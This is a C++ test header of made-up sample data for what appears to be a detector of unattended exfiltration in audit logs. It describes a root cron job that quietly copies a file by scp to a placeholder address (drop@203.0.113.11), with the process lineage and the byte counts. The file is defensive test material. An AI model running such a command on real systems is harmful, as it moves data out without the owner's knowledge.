#pragma once

#include "auexfil/audit/stamp.hpp"
#include "auexfil/facts/fact.hpp"

/// Made-up values that the tests of writers and masks share.
namespace sample {

inline constexpr auexfil::audit::TimeMs kStart = 1'796'173'321'113;  // 2026-12-02T01:02:01.113Z
inline constexpr auexfil::audit::TimeMs kEnd = kStart + 3'757;

/// DESIGN's example: scp of 3 MB by cron.
inline auexfil::facts::Fact fact() {
  using namespace auexfil::facts;
  Fact fact;
  fact.id = 0x9f0c000000000001;
  fact.host = "etl-01";
  fact.start = kStart;
  fact.end = kEnd;
  fact.tool = "scp";
  fact.direction = Direction::out;
  fact.automation = Verdict::unattended;
  fact.reasons = {{"cron", "started by cron (pid 311)", auexfil::audit::Stamp{kStart, 512}},
                  {"no-terminal", "no terminal", {}}};
  fact.job = Job{"cron", "/bin/sh -c scp -q f drop@203.0.113.11:up/", {}};
  fact.auid = 0;
  fact.auid_name = "root";
  fact.uid = 0;
  fact.uid_name = "root";
  fact.ses = 3;
  fact.process = {811, "/usr/bin/scp", "scp", {"scp", "-q", "f", "drop@203.0.113.11:up/"}};
  fact.ppid = 810;
  fact.cwd = "/root";
  fact.lineage = {{810, "/usr/bin/dash", "sh", {"/bin/sh", "-c", "scp -q f drop@203.0.113.11:up/"}},
                  {311, "/usr/sbin/cron", "cron", {"/usr/sbin/cron", "-f"}},
                  {1, "/usr/lib/systemd/systemd", "systemd", {}}};
  Destination to;
  to.address = auexfil::audit::IpAddress::v4({203, 0, 113, 11});
  to.port = 22;
  to.transport = Transport::tcp;
  to.direction = Direction::out;
  to.bytes_out = 3'153'717;
  to.basis = Basis::measured;
  to.connections = 1;
  to.first = kStart;
  to.last = kEnd;
  fact.destinations = {to};
  fact.bytes_out = 3'153'717;
  fact.basis = Basis::measured;
  fact.evidence = {{"audit.log.3", 1234, auexfil::audit::Stamp{kStart + 367, 530}, "connect"}};
  return fact;
}

}  // namespace sample
